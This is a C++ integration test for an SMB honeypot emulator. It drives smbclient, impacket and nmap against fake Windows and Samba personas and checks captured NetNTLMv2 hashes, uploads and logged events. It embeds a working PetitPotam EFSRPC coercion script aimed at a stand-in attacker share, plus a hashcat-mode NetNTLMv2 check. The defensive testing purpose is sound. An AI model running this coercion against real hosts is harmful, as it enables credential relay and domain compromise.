// `decnet up` with the smb emulator against the real clients: smbclient lists a Windows file
// server's shares with alice's password, reads and uploads in Finance (the artifact stored),
// and alice's NetNTLMv2 bounty verifies against her password; impacket's smbclient.py does
// the same; a Samba decky lists its smb.conf shares to a null session; nmap reads the
// persona's dialects and signing. Subnet 127.201.0.0/16 belongs to this file.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <chrono>
#include <fstream>
#include <sstream>

#include "events/event.hpp"
#include "honeypot/auth/ntlm_crypto.hpp"
#include "integration/background_process.hpp"
#include "integration/cli_runner.hpp"
#include "integration/stored_logs.hpp"
#include "store/repository.hpp"

namespace decnet::testing {
namespace {

using ::testing::ContainsRegex;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr const char* kSmbFleet =
    "[general]\nnet = 127.201.0.0/24\n\n"
    "[fs01]\nip = 127.201.0.10\narchetype = windows-server\nservices = smb\n\n"
    "[fs01.smb]\nlogins = alice:Winter2024!\n\n"
    "[files]\nip = 127.201.0.11\narchetype = file-server\nservices = smb\n\n"
    "[old01]\nip = 127.201.0.12\narchetype = windows-server\nservices = smb\n\n"
    "[old01.smb]\nsmb1 = on\n";

std::string unhex(std::string_view h) {
    std::string out(h.size() / 2, '\0');
    from_hex(h, {reinterpret_cast<std::uint8_t*>(out.data()), out.size()});
    return out;
}

// hashcat 5600's check: HMAC-MD5(NTOWFv2(password, user, domain), challenge || blob) is
// the NTProofStr.
bool netntlmv2_verifies(const std::string& line, const std::string& password) {
    std::vector<std::string> parts;
    std::stringstream in(line);
    for (std::string part; std::getline(in, part, ':');) parts.push_back(part);
    if (parts.size() != 6) return false;
    namespace c = honeypot::ntlm_crypto;
    const auto key = c::ntlmv2_response_key(c::nt_hash(password), parts[0], parts[2]);
    const auto proof = c::ntproofstr(key, unhex(parts[3]), unhex(parts[5]));
    return to_hex(proof) == parts[4];
}

TEST(CliSmb, SmbclientImpacketAndNmapAgainstWindowsAndSambaPersonas) {
    const auto dir = make_temp_dir();
    write_file(dir + "/fleet.ini", kSmbFleet);
    BackgroundProcess up({DECNET_BINARY, "up", "--no-api", "--config", dir + "/fleet.ini", "--db",
                          dir + "/s.db", "--state-dir", dir},
                         dir);
    ASSERT_THAT(up.wait_for_output("decnet is up"), HasSubstr("127.201.0.11:445/tcp")) << up.err();

    const auto listed =
        capture("timeout 30 smbclient -L //127.201.0.10 -U 'CORP\\alice%Winter2024!' 2>&1");
    EXPECT_THAT(listed, ContainsRegex("ADMIN\\$ +Disk +Remote Admin"));
    EXPECT_THAT(listed, ContainsRegex("IPC\\$ +IPC +Remote IPC"));
    EXPECT_THAT(listed, ContainsRegex("Finance +Disk"));
    EXPECT_THAT(listed, ContainsRegex("Backups +Disk"));
    EXPECT_THAT(capture("timeout 30 smbclient -L //127.201.0.10 -U 'CORP\\alice%wrong' 2>&1"),
                HasSubstr("NT_STATUS_LOGON_FAILURE"));

    // 139: the NetBIOS session request first, then the same SMB.
    EXPECT_THAT(capture("timeout 30 smbclient -L //127.201.0.10 -p 139 -U "
                        "'CORP\\alice%Winter2024!' 2>&1"),
                ContainsRegex("Finance +Disk"));

    // PetitPotam: EFSRPC bound over \pipe\lsarpc, EfsRpcOpenFileRaw(\\attacker\...),
    // answered access denied as a patched host.
    write_file(dir + "/coerce.py",
               "from impacket.dcerpc.v5 import transport\n"
               "from impacket.uuid import uuidtup_to_bin\n"
               "from impacket.dcerpc.v5.ndr import NDRCALL\n"
               "from impacket.dcerpc.v5.dtypes import WSTR, LONG\n"
               "class EfsRpcOpenFileRaw(NDRCALL):\n"
               "    opnum = 0\n"
               "    structure = (('FileName', WSTR), ('Flags', LONG))\n"
               "t = transport.SMBTransport('127.201.0.10', filename='\\\\lsarpc', "
               "username='alice', password='Winter2024!', domain='CORP')\n"
               "dce = t.get_dce_rpc(); dce.connect()\n"
               "dce.bind(uuidtup_to_bin(('c681d488-d850-11d0-8c52-00c04fd90f7e', '1.0')))\n"
               "req = EfsRpcOpenFileRaw(); req['FileName'] = '\\\\\\\\10.6.6.6\\\\x\\x00'; "
               "req['Flags'] = 0\n"
               "try:\n    dce.request(req)\nexcept Exception as e:\n    print('answer:', e)\n");
    EXPECT_THAT(capture("timeout 30 /usr/bin/python3 " + dir + "/coerce.py 2>&1"),
                HasSubstr("rpc_s_access_denied"));

    write_file(dir + "/x.bin", "MZ uploaded by the attacker\n");
    const auto session = capture("cd " + dir +
                                 " && timeout 30 smbclient //127.201.0.10/Finance -U "
                                 "'CORP\\alice%Winter2024!' -c 'ls; get q3.xlsx; put x.bin; ls' "
                                 "2>&1");
    EXPECT_THAT(session, ContainsRegex("q3\\.xlsx +A +[0-9]+"));
    EXPECT_THAT(session, ContainsRegex("x\\.bin +A +28 "));
    EXPECT_THAT(session, Not(HasSubstr("NT_STATUS")));
    std::ifstream got(dir + "/q3.xlsx", std::ios::binary);
    std::string q3((std::istreambuf_iterator<char>(got)), {});
    EXPECT_TRUE(q3.starts_with("PK\x03\x04")) << q3.size();

    // impacket's smbclient.py: shares, then a listing of Finance.
    const auto impacket = capture(
        "printf 'shares\\nuse Finance\\nls\\nexit\\n' | timeout 30 /usr/bin/python3 "
        "/usr/share/doc/python3-impacket/examples/smbclient.py "
        "'CORP/alice:Winter2024!@127.201.0.10' 2>&1");
    EXPECT_THAT(impacket, HasSubstr("Finance"));
    EXPECT_THAT(impacket, HasSubstr("q3.xlsx"));
    EXPECT_THAT(impacket, Not(HasSubstr("[-]")));

    // The Samba persona: a null session lists smb.conf's shares and IPC$ as smbd words it.
    const auto samba = capture("timeout 30 smbclient -L //127.201.0.11 -N 2>&1");
    EXPECT_THAT(samba, ContainsRegex("Finance +Disk"));
    EXPECT_THAT(samba, ContainsRegex("IPC\\$ +IPC +IPC Service \\(.* server\\)"));

    const auto scan = capture(
        "timeout 120 nmap -n -Pn -p445 --script smb-protocols,smb2-security-mode "
        "127.201.0.10 2>&1");
    EXPECT_THAT(scan, HasSubstr("Message signing enabled but not required")) << scan;
    EXPECT_THAT(scan, ContainsRegex("202\n\\|     210\n\\|     300\n\\|     302\n\\|_    311"))
        << scan;
    // Version detection names both personas as nmap names the real hosts, and fast: Windows
    // (SMB1 off) drops every non-SMB2 probe at once, so nmap never waits out a probe timeout.
    const auto started = std::chrono::steady_clock::now();
    const auto version =
        capture("timeout 120 nmap -n -Pn -sV -p139,445 127.201.0.10 127.201.0.11 2>&1");
    const auto took = std::chrono::steady_clock::now() - started;
    EXPECT_THAT(version, ContainsRegex("139/tcp +open +netbios-ssn +Microsoft Windows netbios-ssn"))
        << version;
    EXPECT_THAT(version, ContainsRegex("445/tcp +open +microsoft-ds\\?")) << version;
    EXPECT_THAT(version, ContainsRegex("445/tcp +open +netbios-ssn +Samba smbd")) << version;
    EXPECT_LT(took, std::chrono::seconds(40)) << version;

    // A Windows persona with SMB1 still on tells smb-os-discovery who it is, as Windows does
    // to an anonymous SMB1 session; smbclient forced to NT1 logs on through the same NTLM.
    const auto os =
        capture("timeout 120 nmap -n -Pn -sV -p445 --script smb-os-discovery 127.201.0.12 2>&1");
    EXPECT_THAT(os,
                HasSubstr("OS: Windows Server 2019 Standard 17763 (Windows Server 2019 Standard "
                          "6.3)"))
        << os;
    EXPECT_THAT(os, ContainsRegex("NetBIOS computer name: [A-Z0-9-]+\\\\x00")) << os;
    EXPECT_THAT(os, ContainsRegex("FQDN: [A-Za-z0-9-]+\\.corp\\.local")) << os;
    EXPECT_THAT(os, Not(HasSubstr("old01"))) << os;  // never the internal decky name
    EXPECT_THAT(os, ContainsRegex("445/tcp +open +microsoft-ds +Windows Server 2019 Standard "
                                  "17763 microsoft-ds"))
        << os;
    EXPECT_THAT(capture("timeout 30 smbclient -L //127.201.0.12 -m NT1 --option='client min "
                        "protocol=NT1' -U 'CORP\\alice%Winter2024!' 2>&1"),
                HasSubstr("NT_STATUS_LOGON_FAILURE"));

    auto repo = store::open_sqlite(dir + "/s.db");
    wait_for_logs(*repo, "service:smb event:file_captured", 1);
    EXPECT_EQ(up.stop(), 0) << up.err();
    bool verified = false;
    for (const auto& fields : stored_fields(*repo, "service:smb event:auth", 50)) {
        const auto at = fields.find("\"password\":\"alice::CORP:");
        if (at == std::string::npos || fields.find("\"status\":\"success\"") == std::string::npos)
            continue;
        const auto start = at + 12;
        const auto line = fields.substr(start, fields.find('"', start) - start);
        EXPECT_THAT(fields, HasSubstr(R"("credential_type":"netntlmv2","hashcat_mode":"5600")"));
        verified = netntlmv2_verifies(line, "Winter2024!");
        EXPECT_FALSE(netntlmv2_verifies(line, "Winter2025!"));
        break;
    }
    EXPECT_TRUE(verified);
    bool smb1_captured = false;
    for (const auto& fields : stored_fields(*repo, "service:smb event:auth", 50))
        smb1_captured =
            smb1_captured || (fields.find("\"dialect\":\"NT LM 0.12\"") != std::string::npos &&
                              fields.find("\"password\":\"alice::CORP:") != std::string::npos);
    EXPECT_TRUE(smb1_captured);
    const auto uploads = stored_fields(*repo, "service:smb event:upload", 5);
    ASSERT_FALSE(uploads.empty());
    EXPECT_THAT(uploads.front(), HasSubstr(R"("share":"Finance","path":"/x.bin","size":"28")"));
    EXPECT_FALSE(stored_fields(*repo, "service:smb event:share_enum", 5).empty());
    std::string coercions;
    for (const auto& c : stored_fields(*repo, "service:smb event:coercion_attempt", 5))
        coercions += c;
    EXPECT_THAT(coercions,
                HasSubstr(R"("interface":"efsrpc","opnum":"0","target":"\\\\10.6.6.6\\x")"));
    EXPECT_FALSE(stored_fields(*repo, "service:smb event:netbios_session", 5).empty());
}

}  // namespace
}  // namespace decnet::testing
